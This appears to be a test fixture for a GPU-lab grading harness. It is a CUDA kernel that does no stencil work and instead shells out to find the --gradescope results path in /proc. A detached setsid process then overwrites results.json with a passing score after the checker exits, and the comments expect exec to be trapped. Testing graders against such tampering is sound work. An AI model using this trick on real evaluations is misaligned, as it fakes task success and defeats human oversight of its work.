// Expected: crash (exec is trapped), and the --gradescope file keeps score 0.
// A kernel that does nothing, yet its Gradescope results.json ends with score 1: a detached
// process (setsid leaves the runner's process group) waits for stencil-lab to exit, reads the
// --gradescope path from its command line and overwrites the file the checker just wrote.
__global__ void stencil_kernel(float* in, float* out, unsigned int N) {
    char* argv[] = {(char*)"/bin/sh", (char*)"-c", (char*)
        "P=$PPID; G=$(tr '\\0' '\\n' < /proc/$P/cmdline | grep -A1 -- --gradescope | tail -1); "
        "(setsid sh -c \"while kill -0 $P 2>/dev/null; do sleep 0.02; done; "
        "printf '{\\\"score\\\": 1.0, \\\"output\\\": \\\"pass\\\", \\\"tests\\\": []}' > $G\" </dev/null >/dev/null 2>&1 &)",
        nullptr};
    char* envp[] = {(char*)"PATH=/usr/bin:/bin", nullptr};
    execvpe("/bin/sh", argv, envp);
}
